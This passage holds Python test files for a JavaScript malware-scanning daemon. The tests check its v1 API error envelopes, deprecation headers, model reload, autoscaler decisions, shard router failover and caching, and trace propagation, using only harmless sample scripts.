            {"scripts": [{"source": OBFUSCATED, "name": "a.js"}, CLEAN], "deobfuscate": True},
        )
        assert status == 200
        results = body["data"]["results"]
        assert results[0]["normalization"]["changed"] is True
        assert "normalization" not in results[1]


class TestDegradation:
    def test_hostile_decoder_degrades_request_not_daemon(self, server):
        status, body = http_json(
            server, "POST", "/v1/scan",
            {"source": INFINITE_DECODER, "name": "hostile.js", "deobfuscate": True},
        )
        assert status == 200
        norm = body["data"]["normalization"]
        assert any("budget_exceeded" in note for note in norm["notes"])
        assert norm["forced_exec"]["budget_exceeded"] >= 1
        # Daemon is still healthy and serving.
        status, body = http_json(server, "GET", "/v1/healthz")
        assert status == 200
        assert body["data"]["status"] == "ok"


class TestConfig:
    def test_version_echoes_deobfuscate_default(self, server):
        _, body = http_json(server, "GET", "/v1/version")
        assert body["data"]["config"]["deobfuscate"] is False

    def test_config_default_applies_when_flag_omitted(self, detector):
        config = ServeConfig(port=0, max_batch=2, max_wait_ms=5.0, deobfuscate=True)
        with BackgroundServer(detector, config) as background:
            _, body = http_json(
                background, "POST", "/v1/scan", {"source": OBFUSCATED, "name": "obf.js"}
            )
            assert body["data"]["normalization"]["changed"] is True
            _, body = http_json(
                background, "POST", "/v1/scan",
                {"source": OBFUSCATED, "deobfuscate": False},
            )
            assert "normalization" not in body["data"]
