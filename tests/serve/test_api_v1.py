"""Golden-response tests for the v1 API surface on the scan daemon.

The contract under test (API.md): every ``/v1`` response — success and
every 4xx/5xx alike, including backpressure states like drain and an
open breaker — is one envelope, ``error.code`` is stable, and the
unprefixed legacy aliases keep their byte-identical v0 bodies while
advertising deprecation.
"""

import http.client
import json

import pytest

from repro.core import JSRevealer, JSRevealerConfig, save_detector
from repro.datasets import experiment_split
from repro.serve import BackgroundServer, ServeConfig
from repro.serve.api import ERROR_CODES, EnvelopeError, parse_envelope


@pytest.fixture(scope="module")
def split():
    return experiment_split(seed=7, pretrain_per_class=6, train_per_class=12, test_per_class=8)


@pytest.fixture(scope="module")
def detector(split):
    det = JSRevealer(JSRevealerConfig(embed_dim=16, pretrain_epochs=3, k_benign=4, k_malicious=4, seed=7))
    det.pretrain(split.pretrain.sources, split.pretrain.labels)
    det.fit(split.train.sources, split.train.labels)
    return det


@pytest.fixture()
def server(detector):
    """A fresh daemon per test — several tests mutate server state."""
    config = ServeConfig(port=0, max_batch=4, max_wait_ms=10.0, queue_limit=32)
    with BackgroundServer(detector, config) as background:
        yield background


def http_json(background, method, path, payload=None, raw_body=None):
    """One request on a fresh connection; returns (status, headers, body bytes)."""
    connection = http.client.HTTPConnection(background.host, background.port, timeout=30)
    body = raw_body if raw_body is not None else (
        json.dumps(payload) if payload is not None else None
    )
    headers = {"Content-Type": "application/json"} if body is not None else {}
    connection.request(method, path, body=body, headers=headers)
    response = connection.getresponse()
    data = response.read()
    status, header_map = response.status, dict(response.getheaders())
    connection.close()
    return status, header_map, data


def expect_error_envelope(status, body) -> EnvelopeError:
    """Assert ``body`` is a well-formed v1 error envelope for ``status``."""
    with pytest.raises(EnvelopeError) as caught:
        parse_envelope(status, body)
    error = caught.value
    assert error.status == status
    assert error.code == ERROR_CODES[status]
    # The envelope itself must carry the full error object shape.
    payload = json.loads(body)
    assert payload["api_version"] == "v1"
    assert "trace_id" in payload
    assert set(payload["error"]) == {"code", "message", "detail"}
    return error


# ----------------------------------------------------------- success envelope


def test_v1_scan_success_envelope(server, split):
    status, headers, body = http_json(
        server, "POST", "/v1/scan", {"source": split.test.sources[0], "name": "s.js"}
    )
    assert status == 200
    payload = json.loads(body)
    assert payload["api_version"] == "v1"
    assert payload["trace_id"]  # scan responses always carry their trace id
    data = parse_envelope(status, body)
    assert data["verdict"] in ("malicious", "benign")
    assert data["trace_id"] == payload["trace_id"]
    assert "Deprecation" not in headers


def test_legacy_scan_body_unchanged_plus_deprecation(server, split):
    status, headers, body = http_json(
        server, "POST", "/scan", {"source": split.test.sources[0], "name": "s.js"}
    )
    assert status == 200
    payload = json.loads(body)
    # v0 body: the result object at top level, no envelope keys.
    assert "api_version" not in payload
    assert payload["verdict"] in ("malicious", "benign")
    assert headers["Deprecation"] == "true"
    assert 'rel="successor-version"' in headers["Link"]
    assert "</v1/scan>" in headers["Link"]
    _status, _headers, metrics = http_json(server, "GET", "/v1/metrics")
    assert b'repro_http_deprecated_requests_total{path="/scan"} 1' in metrics


def test_legacy_error_shape_unchanged(server):
    status, headers, body = http_json(server, "POST", "/scan", raw_body="{not json")
    assert status == 400
    payload = json.loads(body)
    assert set(payload) == {"error"}
    assert payload["error"]["status"] == 400
    assert payload["error"]["reason"] == "Bad Request"
    assert payload["error"]["message"]
    assert headers["Deprecation"] == "true"


# ------------------------------------------------------------- golden errors


@pytest.mark.parametrize(
    "payload,raw_body",
    [
        (None, "{not json"),
        ({}, None),
        ({"source": 5}, None),
        ({"source": "x", "threshold": "high"}, None),
    ],
)
def test_golden_400(server, payload, raw_body):
    status, _headers, body = http_json(server, "POST", "/v1/scan", payload, raw_body=raw_body)
    assert status == 400
    expect_error_envelope(400, body)


def test_golden_404(server):
    status, _headers, body = http_json(server, "GET", "/v1/no/such/route")
    assert status == 404
    expect_error_envelope(404, body)
    # Unprefixed unknown paths are plain 404s, not deprecation aliases.
    status, headers, body = http_json(server, "GET", "/no/such/route")
    assert status == 404
    assert "Deprecation" not in headers
    assert json.loads(body)["error"]["status"] == 404


def test_golden_405(server):
    status, headers, body = http_json(server, "GET", "/v1/scan")
    assert status == 405
    assert headers["Allow"] == "GET, POST"
    expect_error_envelope(405, body)


def test_golden_413(detector, split):
    config = ServeConfig(port=0, max_body_bytes=1024)
    with BackgroundServer(detector, config) as server:
        big = {"source": "x" * 4096}
        status, _headers, body = http_json(server, "POST", "/v1/scan", big)
        assert status == 413
        expect_error_envelope(413, body)
        # The legacy surface keeps the v0 error object.
        status, _headers, body = http_json(server, "POST", "/scan", big)
        assert status == 413
        assert json.loads(body)["error"]["status"] == 413


def test_golden_429_queue_full(server, split):
    server.server.batcher.queue_limit = 0  # every admission now refuses
    server.server.config.queue_limit = 0  # …and /analyze sheds load too
    status, headers, body = http_json(server, "POST", "/v1/scan", {"source": "alert(1)"})
    assert status == 429
    error = expect_error_envelope(429, body)
    assert error.detail["state"] == "queue_full"
    assert "Retry-After" in headers
    status, _headers, body = http_json(server, "POST", "/v1/analyze", {"source": "alert(1)"})
    assert status == 429
    assert expect_error_envelope(429, body).detail["state"] == "queue_full"


def test_golden_503_draining(server, split):
    server.server.batcher._draining = True
    status, _headers, body = http_json(server, "POST", "/v1/scan", {"source": "alert(1)"})
    assert status == 503
    error = expect_error_envelope(503, body)
    assert error.detail["state"] == "draining"
    # Health stays answerable while draining (the supervisor relies on it).
    status, _headers, body = http_json(server, "GET", "/v1/healthz")
    assert status == 200
    assert parse_envelope(status, body)["draining"] is True


def test_golden_503_breaker_open(server, split):
    breaker = server.server.breaker
    for _ in range(server.server.config.breaker_threshold):
        breaker.record_failure()
    status, headers, body = http_json(server, "POST", "/v1/scan", {"source": "alert(1)"})
    assert status == 503
    error = expect_error_envelope(503, body)
    assert error.detail["state"] == "breaker_open"
    assert int(headers["Retry-After"]) >= 1


# ---------------------------------------------------------------- admin/reload


def test_admin_reload_is_v1_only(server):
    status, _headers, body = http_json(server, "POST", "/admin/reload", {"model_dir": "/nope"})
    assert status == 404


def test_admin_reload_bad_model_dir(server):
    status, _headers, body = http_json(
        server, "POST", "/v1/admin/reload", {"model_dir": "/no/such/model"}
    )
    assert status == 400
    error = expect_error_envelope(400, body)
    assert error.detail["model_dir"] == "/no/such/model"
    # The serving model is untouched.
    status, _headers, body = http_json(server, "GET", "/v1/healthz")
    assert parse_envelope(status, body)["epoch"] == 0


def test_admin_reload_swaps_model(server, detector, split, tmp_path):
    model_dir = tmp_path / "model"
    save_detector(detector, model_dir)
    status, _headers, body = http_json(
        server, "POST", "/v1/admin/reload", {"model_dir": str(model_dir)}
    )
    assert status == 200
    data = parse_envelope(status, body)
    assert data["status"] == "reloaded"
    assert data["epoch"] == 1
    assert data["model_fingerprint"] == detector.fingerprint()
    status, _headers, body = http_json(server, "GET", "/v1/healthz")
    health = parse_envelope(status, body)
    assert health["epoch"] == 1
    # Scans keep working against the swapped-in model.
    status, _headers, body = http_json(server, "POST", "/v1/scan", {"source": split.test.sources[1]})
    assert status == 200
    assert parse_envelope(status, body)["verdict"] in ("malicious", "benign")
    _status, _headers, metrics = http_json(server, "GET", "/v1/metrics")
    assert b"repro_model_reloads_total 1" in metrics
    assert b"repro_model_epoch 1" in metrics
