"""Fake-clock tests for the queue-depth autoscaler policy.

The :class:`~repro.serve.autoscale.Autoscaler` is a pure decision
function over (fleet snapshot, clock): the whole sustain / hysteresis /
cool-down schedule is asserted here without a single sleep or a single
real shard.  The cluster controller's *application* of decisions is
covered by the replication bench and the cluster tests.
"""

import pytest

from repro.obs import MetricsRegistry
from repro.serve import HOLD, SCALE_DOWN, SCALE_UP, AutoscaleConfig, Autoscaler


class FakeClock:
    def __init__(self):
        self.now = 0.0

    def __call__(self):
        return self.now

    def advance(self, dt):
        self.now += dt


def fleet(n, depth, crash_looping=0):
    """A supervisor snapshot shaped like ShardSupervisor.snapshot()."""
    out = []
    for i in range(n):
        parked = i < crash_looping
        out.append({
            "shard": f"shard-{i}",
            "healthy": not parked,
            "state": "crash_loop" if parked else "ready",
            "queue_depth": None if parked else depth,
        })
    return out


def make(clock, **overrides):
    defaults = dict(
        min_shards=1, max_shards=4, up_queue_depth=8.0, down_queue_depth=1.0,
        sustain_s=5.0, cooldown_s=30.0,
    )
    defaults.update(overrides)
    return Autoscaler(AutoscaleConfig(**defaults), clock=clock)


def test_scale_up_requires_sustained_pressure():
    clock = FakeClock()
    scaler = make(clock)
    assert scaler.observe(fleet(2, depth=20)) == HOLD  # first sighting starts the streak
    clock.advance(4.9)
    assert scaler.observe(fleet(2, depth=20)) == HOLD  # not sustained yet
    clock.advance(0.2)
    assert scaler.observe(fleet(2, depth=20)) == SCALE_UP


def test_pressure_blip_resets_the_streak():
    clock = FakeClock()
    scaler = make(clock)
    scaler.observe(fleet(2, depth=20))
    clock.advance(4.0)
    assert scaler.observe(fleet(2, depth=4.0)) == HOLD  # back inside the band
    clock.advance(2.0)
    # Pressure again: the old 4s of streak must not carry over.
    assert scaler.observe(fleet(2, depth=20)) == HOLD
    clock.advance(5.1)
    assert scaler.observe(fleet(2, depth=20)) == SCALE_UP


def test_cooldown_blocks_consecutive_actions():
    clock = FakeClock()
    scaler = make(clock)
    scaler.observe(fleet(2, depth=20))
    clock.advance(5.1)
    assert scaler.observe(fleet(2, depth=20)) == SCALE_UP
    # Still under pressure (the new shard has not absorbed load yet):
    # within the cool-down no second action fires, however sustained.
    clock.advance(10.0)
    assert scaler.observe(fleet(3, depth=20)) == HOLD
    clock.advance(25.1)  # past cooldown AND past a fresh sustain window
    assert scaler.observe(fleet(3, depth=20)) == SCALE_UP


def test_scale_down_on_sustained_idle_with_hysteresis():
    clock = FakeClock()
    scaler = make(clock)
    assert scaler.observe(fleet(3, depth=0.0)) == HOLD
    clock.advance(5.1)
    assert scaler.observe(fleet(3, depth=0.0)) == SCALE_DOWN
    # Mid-band load (between down=1 and up=8) must hold steady forever:
    # this is the hysteresis dead band that prevents flapping.
    clock.advance(100.0)
    for _ in range(10):
        clock.advance(10.0)
        assert scaler.observe(fleet(2, depth=4.0)) == HOLD


def test_min_and_max_clamps():
    clock = FakeClock()
    scaler = make(clock, min_shards=2, max_shards=3)
    scaler.observe(fleet(3, depth=20))
    clock.advance(5.1)
    assert scaler.observe(fleet(3, depth=20)) == HOLD  # already at max
    scaler2 = make(clock, min_shards=2, max_shards=3)
    scaler2.observe(fleet(2, depth=0.0))
    clock.advance(5.1)
    assert scaler2.observe(fleet(2, depth=0.0)) == HOLD  # already at min


def test_crash_looping_shards_excluded_from_mean_but_counted_in_size():
    clock = FakeClock()
    # 3 shards but one parked: the mean is over the 2 serving ones, while
    # the parked one still counts against max_shards=3 — autoscaling must
    # not mask a crash loop with endless replacements.
    scaler = make(clock, max_shards=3)
    snapshot = fleet(3, depth=20, crash_looping=1)
    assert Autoscaler.mean_queue_depth(snapshot) == 20.0
    scaler.observe(snapshot)
    clock.advance(5.1)
    assert scaler.observe(snapshot) == HOLD  # fleet size 3 == max


def test_empty_or_unreported_fleet_holds():
    clock = FakeClock()
    scaler = make(clock)
    assert scaler.observe([]) == HOLD
    booting = [{"shard": "shard-0", "healthy": True, "state": "ready", "queue_depth": None}]
    assert Autoscaler.mean_queue_depth(booting) is None
    assert scaler.observe(booting) == HOLD


def test_decisions_counted_in_metrics():
    clock = FakeClock()
    metrics = MetricsRegistry()
    scaler = Autoscaler(
        AutoscaleConfig(sustain_s=1.0, cooldown_s=2.0), clock=clock, metrics=metrics
    )
    scaler.observe(fleet(2, depth=20))
    clock.advance(1.1)
    assert scaler.observe(fleet(2, depth=20)) == SCALE_UP
    clock.advance(3.0)
    scaler.observe(fleet(3, depth=0.0))
    clock.advance(1.1)
    assert scaler.observe(fleet(3, depth=0.0)) == SCALE_DOWN
    rendered = metrics.render()
    assert 'repro_autoscale_decisions_total{direction="up"} 1' in rendered
    assert 'repro_autoscale_decisions_total{direction="down"} 1' in rendered
    assert "repro_cluster_shards 3" in rendered


def test_config_validation():
    with pytest.raises(ValueError):
        AutoscaleConfig(min_shards=0).validate()
    with pytest.raises(ValueError):
        AutoscaleConfig(min_shards=3, max_shards=2).validate()
    with pytest.raises(ValueError):
        AutoscaleConfig(up_queue_depth=2.0, down_queue_depth=2.0).validate()
    with pytest.raises(ValueError):
        AutoscaleConfig(interval_s=0).validate()
    AutoscaleConfig().validate()
