"""Deterministic router fault-matrix tests against canned shards.

The real cluster tests (test_cluster.py) exercise live shard daemons;
here each "shard" is a tiny asyncio server answering one canned
response, so every branch of the retry loop — pass-through, retry to
the next preference, brownout — is forced exactly, with no timing.
"""

import asyncio
import json

import pytest

from repro.pipeline import content_key
from repro.serve import HashRing, RouterConfig, ScanRouter
from repro.serve.api import ERROR_CODES, EnvelopeError, parse_envelope
from repro.serve.http import fetch
from repro.serve.supervisor import free_port

SOURCE = "alert('router-unit')"
KEY = content_key(SOURCE)


def preference_order(n_shards=2):
    """The key's shard fall-through order, as the router will compute it."""
    ring = HashRing([f"shard-{i}" for i in range(n_shards)], vnodes=64)
    return list(ring.preference(KEY))


class FakeSpec:
    pid = 0

    def __init__(self, host, port):
        self.host = host
        self.port = port


class FakeSupervisor:
    """Just enough supervisor surface for ScanRouter."""

    def __init__(self, ports):
        self.n_shards = len(ports)
        self.shards = {f"shard-{i}": FakeSpec("127.0.0.1", port) for i, port in enumerate(ports)}
        self.unhealthy = set()
        self.suspected = []

    def mark_suspect(self, shard_id):
        self.suspected.append(shard_id)

    def snapshot(self):
        return [
            {"shard": shard_id, "healthy": shard_id not in self.unhealthy}
            for shard_id in sorted(self.shards)
        ]


async def start_canned(response_bytes):
    """A one-response-per-connection shard stand-in; counts connections."""
    hits = {"count": 0}

    async def handle(reader, writer):
        hits["count"] += 1
        try:
            await reader.readuntil(b"\r\n\r\n")
            writer.write(response_bytes)
            await writer.drain()
        finally:
            writer.close()

    server = await asyncio.start_server(handle, host="127.0.0.1", port=0)
    return server, server.sockets[0].getsockname()[1], hits


async def boot(assignments, config=None):
    """``assignments``: shard_id → canned bytes, or None for a dead port."""
    servers, hits = [], {}
    ports = {}
    for shard_id, canned in assignments.items():
        if canned is None:
            ports[shard_id] = free_port()  # nobody listens: connect refused
        else:
            server, port, counter = await start_canned(canned)
            servers.append(server)
            ports[shard_id] = port
            hits[shard_id] = counter
    supervisor = FakeSupervisor([ports[f"shard-{i}"] for i in range(len(assignments))])
    # Canned shards answer exactly one request each — federation scraping
    # would consume them, so these unit routers run with it disabled.
    router = ScanRouter(
        supervisor,
        config or RouterConfig(port=0, request_timeout_s=5.0, scrape_interval_s=0),
    )
    await router.start()
    return router, supervisor, servers, hits


async def teardown(router, servers):
    await router.stop()
    for server in servers:
        server.close()
        await server.wait_closed()


async def scan_via(router):
    body = json.dumps({"source": SOURCE}).encode("utf-8")
    return await fetch("127.0.0.1", router.bound_port, "POST", "/v1/scan", body=body)


def shard_200():
    from repro.serve.api import v1_response

    return v1_response(200, {"verdict": "benign", "malicious": False, "probability": 0.1})


def shard_error(status, detail=None, headers=None):
    from repro.serve.api import v1_error_response

    return v1_error_response(status, f"canned {status}", detail=detail, extra_headers=headers)


def test_429_passes_through_without_retry():
    async def main():
        first, second = preference_order()
        router, supervisor, servers, hits = await boot({
            first: shard_error(429, detail={"state": "queue_full"}, headers={"Retry-After": "1"}),
            second: shard_200(),
        })
        try:
            response = await scan_via(router)
            assert response.status == 429
            with pytest.raises(EnvelopeError) as caught:
                parse_envelope(response.status, response.body)
            assert caught.value.code == ERROR_CODES[429]
            assert response.headers["x-shard"] == first
            assert response.headers["retry-after"] == "1"
            assert hits[second]["count"] == 0  # backpressure is not shuffled
            assert supervisor.suspected == []
            assert "repro_router_retries_total 0" in router.metrics.render()
        finally:
            await teardown(router, servers)

    asyncio.run(main())


def test_503_retries_onto_next_shard():
    async def main():
        first, second = preference_order()
        router, supervisor, servers, hits = await boot({
            first: shard_error(503, detail={"state": "draining"}),
            second: shard_200(),
        })
        try:
            response = await scan_via(router)
            assert response.status == 200
            assert parse_envelope(response.status, response.body)["verdict"] == "benign"
            assert response.headers["x-shard"] == second
            assert hits[first]["count"] == 1
            assert first in supervisor.suspected
            assert "repro_router_retries_total 1" in router.metrics.render()
        finally:
            await teardown(router, servers)

    asyncio.run(main())


def test_transport_fault_retries_onto_next_shard():
    async def main():
        first, second = preference_order()
        router, supervisor, servers, hits = await boot({
            first: None,  # dead port: connect refused
            second: shard_200(),
        })
        try:
            response = await scan_via(router)
            assert response.status == 200
            assert response.headers["x-shard"] == second
            assert first in supervisor.suspected
        finally:
            await teardown(router, servers)

    asyncio.run(main())


def test_400_passes_through_without_retry():
    async def main():
        first, second = preference_order()
        router, supervisor, servers, hits = await boot({
            first: shard_error(400),
            second: shard_200(),
        })
        try:
            response = await scan_via(router)
            assert response.status == 400
            assert response.headers["x-shard"] == first
            assert hits[second]["count"] == 0
            assert supervisor.suspected == []
        finally:
            await teardown(router, servers)

    asyncio.run(main())


def test_brownout_when_every_shard_is_unhealthy():
    async def main():
        router, supervisor, servers, _hits = await boot({
            "shard-0": shard_200(),
            "shard-1": shard_200(),
        })
        supervisor.unhealthy = {"shard-0", "shard-1"}
        try:
            response = await scan_via(router)
            assert response.status == 503
            with pytest.raises(EnvelopeError) as caught:
                parse_envelope(response.status, response.body)
            assert caught.value.code == "unavailable"
            assert caught.value.detail["state"] == "brownout"
            assert "retry-after" in response.headers
            assert "repro_router_brownouts_total 1" in router.metrics.render()
        finally:
            await teardown(router, servers)

    asyncio.run(main())


def test_brownout_after_every_shard_faults():
    async def main():
        router, supervisor, servers, _hits = await boot({"shard-0": None, "shard-1": None})
        try:
            response = await scan_via(router)
            assert response.status == 503
            with pytest.raises(EnvelopeError) as caught:
                parse_envelope(response.status, response.body)
            assert caught.value.detail["state"] == "brownout"
            assert set(supervisor.suspected) == {"shard-0", "shard-1"}
        finally:
            await teardown(router, servers)

    asyncio.run(main())


# ------------------------------------------------------ replica failover


def test_primary_down_replica_serves_and_failover_is_counted():
    async def main():
        primary, replica, _third = preference_order(3)
        router, supervisor, servers, hits = await boot({
            primary: None,  # dead port: connect refused
            replica: shard_200(),
            _third: shard_200(),
        })
        try:
            response = await scan_via(router)
            assert response.status == 200
            assert response.headers["x-shard"] == replica
            assert hits[_third]["count"] == 0  # failover stays inside the replica set
            rendered = router.metrics.render()
            assert 'repro_router_failovers_total{reason="dead"} 1' in rendered
        finally:
            await teardown(router, servers)

    asyncio.run(main())


def test_all_replicas_down_brownout_despite_healthy_third_shard():
    # With R=2, a key is only ever served by its two replicas: when both
    # are gone the router must brown out rather than guess a cold third
    # shard (which would also hide the outage from the operator).
    async def main():
        primary, replica, third = preference_order(3)
        router, supervisor, servers, hits = await boot({
            primary: None,
            replica: None,
            third: shard_200(),
        })
        try:
            response = await scan_via(router)
            assert response.status == 503
            with pytest.raises(EnvelopeError) as caught:
                parse_envelope(response.status, response.body)
            assert caught.value.detail["state"] == "brownout"
            assert hits[third]["count"] == 0
            assert set(supervisor.suspected) == {primary, replica}
        finally:
            await teardown(router, servers)

    asyncio.run(main())


def test_exhausted_candidates_do_not_count_as_failovers():
    # The last candidate's fault has nowhere to fail over to: it is a
    # brownout, not a failover — the metric must say so.
    async def main():
        router, supervisor, servers, _hits = await boot({"shard-0": None, "shard-1": None})
        try:
            response = await scan_via(router)
            assert response.status == 503
            rendered = router.metrics.render()
            assert 'repro_router_failovers_total{reason="dead"} 1' in rendered
            assert "repro_router_brownouts_total 1" in rendered
        finally:
            await teardown(router, servers)

    asyncio.run(main())


# ------------------------------------------------------- verdict cache


def test_verdict_cache_hit_replays_shard_and_skips_forward():
    async def main():
        first, second = preference_order()
        router, supervisor, servers, hits = await boot({
            first: shard_200(),
            second: shard_200(),
        })
        try:
            miss = await scan_via(router)
            assert miss.status == 200
            assert "x-router-cache" not in miss.headers
            served_by = miss.headers["x-shard"]
            upstream = hits[served_by]["count"]

            hit = await scan_via(router)
            assert hit.status == 200
            assert hit.headers["x-router-cache"] == "hit"
            assert hit.headers["x-shard"] == served_by  # affinity attribution replayed
            assert hits[served_by]["count"] == upstream  # no second forward
            data = parse_envelope(hit.status, hit.body)
            assert data["verdict"] == "benign"
            assert data["trace_id"] is None  # a cached answer has no trace
            rendered = router.metrics.render()
            assert 'repro_router_cache_total{result="hit"} 1' in rendered
            assert 'repro_router_cache_total{result="miss"} 1' in rendered
        finally:
            await teardown(router, servers)

    asyncio.run(main())


def test_verdict_cache_epoch_bump_invalidates():
    async def main():
        first, second = preference_order()
        router, supervisor, servers, hits = await boot({
            first: shard_200(),
            second: shard_200(),
        })
        try:
            await scan_via(router)
            assert len(router.verdicts) == 1
            router.verdicts.bump_epoch()  # what /v1/admin/reload does
            assert len(router.verdicts) == 0
            response = await scan_via(router)
            assert response.status == 200
            assert "x-router-cache" not in response.headers  # re-fetched
        finally:
            await teardown(router, servers)

    asyncio.run(main())


def test_verdict_cache_keyed_on_scan_options():
    async def main():
        first, second = preference_order()
        router, supervisor, servers, hits = await boot({
            first: shard_200(),
            second: shard_200(),
        })
        try:
            body = json.dumps({"source": SOURCE}).encode("utf-8")
            await fetch("127.0.0.1", router.bound_port, "POST", "/v1/scan", body=body)
            strict = json.dumps({"source": SOURCE, "threshold": 0.9}).encode("utf-8")
            response = await fetch(
                "127.0.0.1", router.bound_port, "POST", "/v1/scan", body=strict
            )
            # Different options: same content must not replay the other
            # threshold's verdict.
            assert "x-router-cache" not in response.headers
            assert len(router.verdicts) == 2
        finally:
            await teardown(router, servers)

    asyncio.run(main())


def test_verdict_cache_disabled_bypasses():
    async def main():
        first, second = preference_order()
        router, supervisor, servers, hits = await boot(
            {first: shard_200(), second: shard_200()},
            config=RouterConfig(port=0, request_timeout_s=5.0, verdict_cache_size=0, scrape_interval_s=0),
        )
        try:
            served = (await scan_via(router)).headers["x-shard"]
            response = await scan_via(router)
            assert "x-router-cache" not in response.headers
            assert hits[served]["count"] == 2  # every request forwarded
            assert 'repro_router_cache_total{result="bypass"}' in router.metrics.render()
        finally:
            await teardown(router, servers)

    asyncio.run(main())


def test_router_healthz_reports_replicas_and_cache():
    async def main():
        router, supervisor, servers, _hits = await boot({
            "shard-0": shard_200(),
            "shard-1": shard_200(),
        })
        try:
            await scan_via(router)
            response = await fetch("127.0.0.1", router.bound_port, "GET", "/v1/healthz")
            data = parse_envelope(response.status, response.body)
            assert data["replicas"] == 2
            assert data["verdict_cache"]["size"] == 1
            assert data["verdict_cache"]["capacity"] == 1024
            assert data["verdict_cache"]["epoch"] == 0
        finally:
            await teardown(router, servers)

    asyncio.run(main())
