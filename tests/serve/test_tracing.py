"""Daemon-level tracing: propagation, grafting, and the debug endpoints.

The acceptance contract: a request carrying an inbound W3C ``traceparent``
with the sampled bit set is always recorded (regardless of the daemon's
sample rate), answers with that trace id in the body and ``X-Trace-Id``
header, and the stored trace — retrievable via ``GET
/debug/traces/<trace_id>`` — contains a span for every pipeline stage the
request actually executed, grafted under the request's root span.
"""

import http.client
import json

import pytest

from repro.core import JSRevealer, JSRevealerConfig
from repro.datasets import experiment_split
from repro.serve import BackgroundServer, ServeConfig, run_load

TRACE_ID = "ab" * 16
PARENT_SPAN = "cd" * 8
TRACEPARENT = f"00-{TRACE_ID}-{PARENT_SPAN}-01"


@pytest.fixture(scope="module")
def split():
    return experiment_split(seed=7, pretrain_per_class=6, train_per_class=12, test_per_class=8)


@pytest.fixture(scope="module")
def detector(split):
    det = JSRevealer(JSRevealerConfig(embed_dim=16, pretrain_epochs=3, k_benign=4, k_malicious=4, seed=7))
    det.pretrain(split.pretrain.sources, split.pretrain.labels)
    det.fit(split.train.sources, split.train.labels)
    return det


@pytest.fixture(scope="module")
def server(detector):
    # Sample rate 0: only requests with an inbound sampled traceparent are
    # traced, which makes every assertion below deterministic.
    config = ServeConfig(port=0, max_batch=4, max_wait_ms=10.0, trace_sample_rate=0.0)
    with BackgroundServer(detector, config) as background:
        yield background


def http_json(background, method, path, payload=None, headers=None):
    connection = http.client.HTTPConnection(background.host, background.port, timeout=30)
    body = json.dumps(payload) if payload is not None else None
    send_headers = dict(headers or {})
    if body is not None:
        send_headers["Content-Type"] = "application/json"
    connection.request(method, path, body=body, headers=send_headers)
    response = connection.getresponse()
    data = response.read()
    status, header_map = response.status, dict(response.getheaders())
    connection.close()
    return status, header_map, json.loads(data) if data else None


def flatten(nodes):
    for node in nodes:
        yield node
        yield from flatten(node.get("children", []))


def traceparent(n: int) -> str:
    return f"00-{n:032x}-{PARENT_SPAN}-01"


class TestPropagation:
    def test_inbound_traceparent_echoed_end_to_end(self, server, split):
        status, headers, body = http_json(
            server, "POST", "/scan",
            {"source": split.test.sources[0], "name": "traced"},
            {"traceparent": TRACEPARENT},
        )
        assert status == 200
        assert body["trace_id"] == TRACE_ID
        assert headers["X-Trace-Id"] == TRACE_ID
        assert headers["traceparent"].startswith(f"00-{TRACE_ID}-")
        assert headers["traceparent"].endswith("-01")
        # Traced responses also carry the provenance envelope.
        assert body["trace"]["trace_id"] == TRACE_ID
        assert body["trace"]["provenance"]

    def test_stored_trace_has_every_pipeline_stage(self, server, split):
        tp = traceparent(0xBEEF)
        status, _, _ = http_json(
            server, "POST", "/scan",
            {"source": split.test.sources[1] + "\n// stage probe", "name": "stages"},
            {"traceparent": tp},
        )
        assert status == 200
        status, _, stored = http_json(server, "GET", f"/debug/traces/{0xBEEF:032x}")
        assert status == 200
        names = {span["name"] for span in stored["spans"]}
        for stage in ("http.scan", "queue.wait", "batch.execute", "scan.batch", "script",
                      "path_extraction", "embedding", "feature_transform", "classify"):
            assert stage in names, stage
        # The tree is rooted at the request span; batch spans are grafted
        # beneath it, so nothing floats at top level.
        assert len(stored["tree"]) == 1
        assert stored["tree"][0]["name"] == "http.scan"
        flat = list(flatten(stored["tree"]))
        assert len(flat) == len(stored["spans"])

    def test_untraced_request_still_returns_trace_id_but_stores_nothing(self, server, split):
        status, headers, body = http_json(
            server, "POST", "/scan", {"source": split.test.sources[2], "name": "plain"}
        )
        assert status == 200
        trace_id = body["trace_id"]
        assert len(trace_id) == 32
        assert headers["X-Trace-Id"] == trace_id
        assert headers["traceparent"].endswith("-00")  # unsampled
        assert "trace" not in body  # untraced body is byte-identical
        status, _, _ = http_json(server, "GET", f"/debug/traces/{trace_id}")
        assert status == 404

    def test_unsampled_inbound_traceparent_respected(self, server, split):
        tp = f"00-{0xDEAD:032x}-{PARENT_SPAN}-00"
        status, _, body = http_json(
            server, "POST", "/scan", {"source": split.test.sources[3]}, {"traceparent": tp}
        )
        assert status == 200
        assert body["trace_id"] == f"{0xDEAD:032x}"  # id propagates …
        status, _, _ = http_json(server, "GET", f"/debug/traces/{0xDEAD:032x}")
        assert status == 404  # … but the trace is not recorded

    def test_malformed_traceparent_gets_fresh_trace(self, server, split):
        status, _, body = http_json(
            server, "POST", "/scan", {"source": split.test.sources[4]},
            {"traceparent": "garbage-header"},
        )
        assert status == 200
        assert len(body["trace_id"]) == 32
        assert body["trace_id"] != "garbage-header"

    def test_batch_endpoint_traced(self, server, split):
        tp = traceparent(0xFACE)
        status, _, body = http_json(
            server, "POST", "/scan/batch",
            {"scripts": [s + "\n// batch probe" for s in split.test.sources[:3]]},
            {"traceparent": tp},
        )
        assert status == 200
        assert body["trace_id"] == f"{0xFACE:032x}"
        status, _, stored = http_json(server, "GET", f"/debug/traces/{0xFACE:032x}")
        assert status == 200
        names = {span["name"] for span in stored["spans"]}
        assert {"http.scan_batch", "batch.execute", "scan.batch", "script"} <= names
        scripts = [span for span in stored["spans"] if span["name"] == "script"]
        assert len(scripts) == 3

    def test_analyze_endpoint_traced(self, server):
        tp = traceparent(0xCAFE)
        status, headers, body = http_json(
            server, "POST", "/analyze", {"source": "eval('x');", "name": "a"},
            {"traceparent": tp},
        )
        assert status == 200
        assert body["trace_id"] == f"{0xCAFE:032x}"
        assert headers["X-Trace-Id"] == f"{0xCAFE:032x}"
        status, _, stored = http_json(server, "GET", f"/debug/traces/{0xCAFE:032x}")
        assert status == 200
        assert {span["name"] for span in stored["spans"]} >= {"http.analyze", "analysis"}


class TestDebugEndpoints:
    def test_list_returns_summaries_newest_first(self, server, split):
        tp = traceparent(0xF00D)
        http_json(server, "POST", "/scan", {"source": split.test.sources[5]},
                  {"traceparent": tp})
        status, _, listing = http_json(server, "GET", "/debug/traces?n=5")
        assert status == 200
        assert listing["traces"], listing
